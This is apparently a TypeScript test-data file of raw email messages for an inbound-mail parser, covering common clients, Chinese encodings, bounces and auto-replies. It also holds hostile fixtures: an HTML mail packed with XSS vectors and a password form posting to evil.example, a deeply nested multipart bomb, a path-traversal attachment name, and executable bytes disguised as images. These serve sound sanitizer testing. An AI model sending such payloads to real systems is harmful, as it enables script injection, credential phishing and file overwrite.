// Test data: raw messages in the shapes real clients send (Outlook, Gmail, Apple Mail, Chinese
// mailers in GBK and Big5), bounces and auto-replies, hostile HTML and broken MIME. Written by
// hand from those clients' output; used by the unit tests of infra/email/inbound/ and by integration tests.

const crlf = (text: string) => text.replace(/\r?\n/g, '\r\n');
const message = (text: string) => Buffer.from(crlf(text), 'utf8');
const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** Base64 wrapped at 76 characters, as MIME writers do. */
const wrap = (base64: string) => base64.replace(/.{1,76}/g, '$&\n').trimEnd();

// A 1×1 PNG and a Windows executable's first bytes (an "MZ" header with a PE signature).
export const pngBytes = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
export const exeBytes = (() => {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x014c, 0x84);
  return bytes;
})();

/** Gmail (web), English, multipart/alternative, quoting our earlier message. */
export const gmailReply = message(`Delivered-To: reply+TOKEN@support.example.com
Return-Path: <ann.customer@gmail.com>
MIME-Version: 1.0
Date: Tue, 1 Dec 2026 10:15:02 +0800
References: <11111111-2222-4333-8444-555555555555.abcdefghijklmnop@support.example.com>
In-Reply-To: <11111111-2222-4333-8444-555555555555.abcdefghijklmnop@support.example.com>
Message-ID: <CAFx8Jk2mQ=abc123@mail.gmail.com>
Subject: Re: Your refund [#42]
From: Ann Customer <Ann.Customer@gmail.com>
To: Example Support <reply+TOKEN@support.example.com>
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f6"

--000000000000a1b2c3d4e5f6
Content-Type: text/plain; charset="UTF-8"

Thanks, that worked!

Ann

On Mon, Dec 1, 2026 at 9:00 AM Example Support <reply+TOKEN@support.example.com>
wrote:

> Hello Ann,
> your refund was sent.
>

--000000000000a1b2c3d4e5f6
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr">Thanks, that worked!<div><br></div><div>Ann</div></div><br=
><div class=3D"gmail_quote"><div dir=3D"ltr" class=3D"gmail_attr">On Mon, D=
ec 1, 2026 at 9:00 AM Example Support &lt;reply+TOKEN@support.example.com&g=
t; wrote:<br></div><blockquote class=3D"gmail_quote" style=3D"margin:0px 0p=
x 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hello =
Ann,<br>your refund was sent.</blockquote></div>

--000000000000a1b2c3d4e5f6--
`);

/** Outlook desktop reply: drops In-Reply-To and References, quotes below a From/Sent block. */
export const outlookReplyWithoutThreadHeaders = message(`Received: from EXCH01.corp.example.net by mx.support.example.com
From: "Bob Buyer" <bob@corp.example.net>
To: "Example Support" <reply+TOKEN@support.example.com>
Subject: RE: Invoice question [#77]
Thread-Topic: Invoice question [#77]
Thread-Index: AQHa1b2c3d4e5f6g7h8i9j0k==
Date: Tue, 1 Dec 2026 02:30:00 +0000
Message-ID: <DM6PR11MB4321ABCDEF0123456789@DM6PR11MB4321.namprd11.prod.outlook.com>
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
Content-Type: multipart/mixed; boundary="_004_DM6PR11MB4321_"
MIME-Version: 1.0

--_004_DM6PR11MB4321_
Content-Type: multipart/related; boundary="_003_DM6PR11MB4321_"; type="multipart/alternative"

--_003_DM6PR11MB4321_
Content-Type: multipart/alternative; boundary="_000_DM6PR11MB4321_"

--_000_DM6PR11MB4321_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Please see the attached screenshot.

Regards,
Bob

From: Example Support <reply+TOKEN@support.example.com>
Sent: Monday, December 1, 2026 9:00 AM
To: Bob Buyer <bob@corp.example.net>
Subject: Invoice question [#77]

Hello Bob, which invoice do you mean?

--_000_DM6PR11MB4321_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html><head><style>p.MsoNormal{margin:0cm;}</style></head><body lang=3D"EN-US">=
<div class=3D"WordSection1"><p class=3D"MsoNormal">Please see the attached screen=
shot.<img width=3D"1" height=3D"1" src=3D"cid:image001.png@01DB43A1.5C2E3F00"></p>=
<p class=3D"MsoNormal">Regards,<br>Bob</p>
<div id=3D"appendonsend"></div><hr style=3D"display:inline-block;width:98%">
<div id=3D"divRplyFwdMsg" dir=3D"ltr"><font face=3D"Calibri"><b>From:</b> Example =
Support<br><b>Sent:</b> Monday, December 1, 2026 9:00 AM<br><b>Subject:</b> Invoice=
 question [#77]</font></div>
<div><p>Hello Bob, which invoice do you mean?</p></div></div></body></html>

--_000_DM6PR11MB4321_--

--_003_DM6PR11MB4321_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"
Content-ID: <image001.png@01DB43A1.5C2E3F00>
Content-Transfer-Encoding: base64

${pngBytes.toString('base64')}

--_003_DM6PR11MB4321_--

--_004_DM6PR11MB4321_
Content-Type: application/pdf; name="invoice.png"
Content-Disposition: attachment; filename="invoice.png"
Content-Transfer-Encoding: base64

${wrap(exeBytes.toString('base64'))}

--_004_DM6PR11MB4321_--
`);

/** Apple Mail, Simplified Chinese, replying with a quote in blockquote type=cite. */
export const appleMailChineseReply = message(`From: =?utf-8?B?${b64('李雷')}?= <lilei@icloud.com>
Content-Type: multipart/alternative; boundary="Apple-Mail=_5A6B7C8D-1234-5678-9ABC-DEF012345678"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))
Subject: =?utf-8?B?${b64('回复：发票问题')}?=
Date: Tue, 1 Dec 2026 11:20:00 +0800
In-Reply-To: <11111111-2222-4333-8444-555555555555.qrstuvwxyzabcdef@support.example.com>
To: support@support.example.com
References: <first@icloud.com> <11111111-2222-4333-8444-555555555555.qrstuvwxyzabcdef@support.example.com>
Message-Id: <8F3E2B1A-AAAA-BBBB-CCCC-0123456789AB@icloud.com>

--Apple-Mail=_5A6B7C8D-1234-5678-9ABC-DEF012345678
Content-Transfer-Encoding: base64
Content-Type: text/plain;
\tcharset=utf-8

${wrap(b64('好的，收到了，谢谢！\n\n发自我的iPhone\n\n> 2026年12月1日 10:00，客服 <support@support.example.com> 写道：\n> \n> 您好，发票已经寄出。\n'))}

--Apple-Mail=_5A6B7C8D-1234-5678-9ABC-DEF012345678
Content-Transfer-Encoding: base64
Content-Type: text/html;
\tcharset=utf-8

${wrap(b64('<html><body><div>好的，收到了，谢谢！</div><div><br></div><div>发自我的iPhone</div><div><br><blockquote type="cite"><div>2026年12月1日 10:00，客服 &lt;support@support.example.com&gt; 写道：</div><div>您好，发票已经寄出。</div></blockquote></div></body></html>'))}

--Apple-Mail=_5A6B7C8D-1234-5678-9ABC-DEF012345678--
`);

/** A Chinese mailer writing GBK: encoded-word headers, an 8-bit body labelled gb2312 that uses GBK-only characters (镕, 旻). */
export const gbkMail = Buffer.concat([
  message(`From: =?GBK?B?1cXI/Q==?= <zhangsan@example.cn>
To: support@support.example.com
Subject: =?GBK?B?tqm1pc60t6K79Q==?=
Date: Tue, 1 Dec 2026 09:00:00 +0800
Message-ID: <20261201090000.12345@example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: 8bit

`),
  Buffer.from('xPq6w6OsztK1xLaptaWjqLHgusUgMjAyNjEyMDGjqbu5w7vT0Leiu/WjrMfrsO/DprLp0rvPwqGj0LvQu6OhDQrpRpVG', 'base64'),
]);
export const gbkMailText = '您好，我的订单（编号 20261201）还没有发货，请帮忙查一下。谢谢！\n镕旻';

/** Old Outlook/Foxmail in Chinese: raw 8-bit GBK in the Subject and an attachment's file name (no encoded words). */
export const rawGbkHeadersMail = Buffer.concat([
  message('From: zhangsan@example.cn\nTo: support@support.example.com\nSubject: '),
  Buffer.from('tqm1pc60t6K79Q==', 'base64'),
  message(`
Message-ID: <raw-gbk-1@example.cn>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_NextPart_000_0001"

------=_NextPart_000_0001
Content-Type: text/plain; charset="gbk"
Content-Transfer-Encoding: base64

xPq6w6OsztK1xLaptaWjqLHgusUgMjAyNjEyMDGjqbu5w7vT0Leiu/WjrMfrsO/DprLp0rvPwqGj0LvQu6OhDQrpRpVG

------=_NextPart_000_0001
Content-Type: application/octet-stream; name="`),
  Buffer.from('sai827WlLnR4dA==', 'base64'),
  message(`"
Content-Disposition: attachment; filename="`),
  Buffer.from('sai827WlLnR4dA==', 'base64'),
  message(`"
Content-Transfer-Encoding: base64

sai826O60ruw2dSq

------=_NextPart_000_0001--
`),
]);

/** Traditional Chinese in Big5: encoded-word subject and name, base64 body. */
export const big5Mail = message(`From: =?big5?B?s6+s/KzC?= <chen@example.tw>
To: support@support.example.com
Subject: =?big5?B?sGizZqXTvdA=?=
Message-ID: <big5-1@example.tw>
MIME-Version: 1.0
Content-Type: text/plain; charset=big5
Content-Transfer-Encoding: base64

sXqmbqFBvdCw3bBos2asebV7rE+ksLvyoUin2rZSqrqm1b73prPC+K21oUMNCrOvpHCpag==
`);
export const big5MailText = '您好，請問退貨流程是什麼？我買的耳機有雜音。\n陳小姐';

/** GB18030 with a four-byte sequence (a CJK Extension B character) and the euro sign. */
export const gb18030Mail = message(`From: a@example.cn
Subject: gb18030
Message-ID: <gb18030-1@example.cn>
Content-Type: text/plain; charset=GB18030
Content-Transfer-Encoding: base64

yfrGp9fWo7qVMoI2INPrIKLj
`);

/** HTML that tries everything: script, handlers, javascript: links, frames, forms, CSS url(), a tracking pixel. */
export const maliciousHtmlMail = message(`From: attacker@evil.example
To: support@support.example.com
Subject: Invoice
Message-ID: <evil-1@evil.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><script>alert(1)</script><style>body{background:url(https://evil.example/css.png)}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="alert(2)"><p style="color:red;background-image:url(https://evil.example/bg.png);position:fixed">Hello</p>
<img src="https://evil.example/pixel.gif?u=victim" width="1" height="1" onerror="alert(3)">
<img src="x" onerror="alert(4)"><a href="javascript:alert(5)">click</a><a href="JaVaScRiPt&colon;alert(6)">again</a>
<a href="https://example.com/ok" onclick="alert(7)">fine link</a>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object><embed src="x.swf">
<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>
<svg><script>alert(8)</script></svg><math><mi xlink:href="javascript:alert(9)">x</mi></math>
<div data-attachment-id="someone-elses" style="width:expression(alert(10))">text</div>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTEpPjwvc3ZnPg==">
</body></html>
`);

/** A bounce: multipart/report with a delivery-status part naming the failed recipient. */
export const dsnBounce = message(`Return-Path: <>
From: Mail Delivery Subsystem <MAILER-DAEMON@mx.example.org>
To: reply+TOKEN@support.example.com
Subject: Undelivered Mail Returned to Sender
Message-ID: <20261201100000.ABC@mx.example.org>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="dsn-boundary"

--dsn-boundary
Content-Type: text/plain; charset=us-ascii

I'm sorry to have to inform you that your message could not be delivered.

--dsn-boundary
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.org
Arrival-Date: Tue, 1 Dec 2026 10:00:00 +0000

Final-Recipient: rfc822; Nobody@Example.org
Original-Recipient: rfc822;nobody@example.org
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.org>: Recipient address rejected

--dsn-boundary
Content-Type: text/rfc822-headers

From: Example Support <support@support.example.com>
To: nobody@example.org
Subject: Your request [#42]
Message-ID: <11111111-2222-4333-8444-555555555555.abcdefghijklmnop@support.example.com>

--dsn-boundary--
`);

/** Exchange's out-of-office reply. */
export const outOfOffice = message(`From: Carol <carol@corp.example.net>
To: reply+TOKEN@support.example.com
Subject: Automatic reply: Your request [#42]
Message-ID: <oof-1@corp.example.net>
Auto-Submitted: auto-generated
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset=utf-8

I am out of the office until Monday.
`);

/** A message whose multiparts nest far deeper than any client writes (a "zip bomb" of structure). */
export function nestedMultipartBomb(depth: number): Buffer {
  let body = 'Content-Type: text/plain\n\ninnermost\n';
  for (let level = depth; level >= 1; level -= 1) {
    body = `Content-Type: multipart/mixed; boundary="b${level}"\n\n--b${level}\n${body}\n--b${level}--\n`;
  }
  return message(`From: bomb@evil.example\nSubject: nested\nMessage-ID: <bomb@evil.example>\nMIME-Version: 1.0\n${body}`);
}

/** A message with this many small attachments. */
export function manyAttachments(count: number): Buffer {
  const parts = Array.from(
    { length: count },
    (_, index) => `--many\nContent-Type: text/plain; name="f${index}.txt"\nContent-Disposition: attachment; filename="f${index}.txt"\n\nfile ${index}\n`,
  );
  return message(
    `From: many@example.com\nSubject: many\nMessage-ID: <many@example.com>\nContent-Type: multipart/mixed; boundary="many"\n\n--many\nContent-Type: text/plain\n\nsee attachments\n${parts.join('')}--many--\n`,
  );
}

/** Broken MIME: a multipart whose boundary never appears, an unclosed part, a bad charset, stray bytes. */
export const brokenMime = Buffer.concat([
  message(`From: "Broken Sender" <broken@example.com>
Subject: broken
Message-ID: <broken@example.com>
Content-Type: multipart/mixed; boundary="declared-but-missing"

--other-boundary
Content-Type: text/plain; charset=no-such-charset

text in a part nobody opened
`),
  Buffer.from([0xff, 0xfe, 0x00, 0x81, 0x0d, 0x0a]),
]);

/** A message carrying an image attachment and an .exe renamed to .png. */
export const attachmentsMail = message(`From: sender@example.com
To: support@support.example.com
Subject: files
Message-ID: <files@example.com>
Content-Type: multipart/mixed; boundary="f"

--f
Content-Type: text/plain

two files
--f
Content-Type: image/png; name="photo.png"
Content-Disposition: attachment; filename="../../etc/photo.png"
Content-Transfer-Encoding: base64

${pngBytes.toString('base64')}
--f
Content-Type: image/png; name="cat.png"
Content-Disposition: attachment; filename="cat.png"
Content-Transfer-Encoding: base64

${wrap(exeBytes.toString('base64'))}
--f--
`);
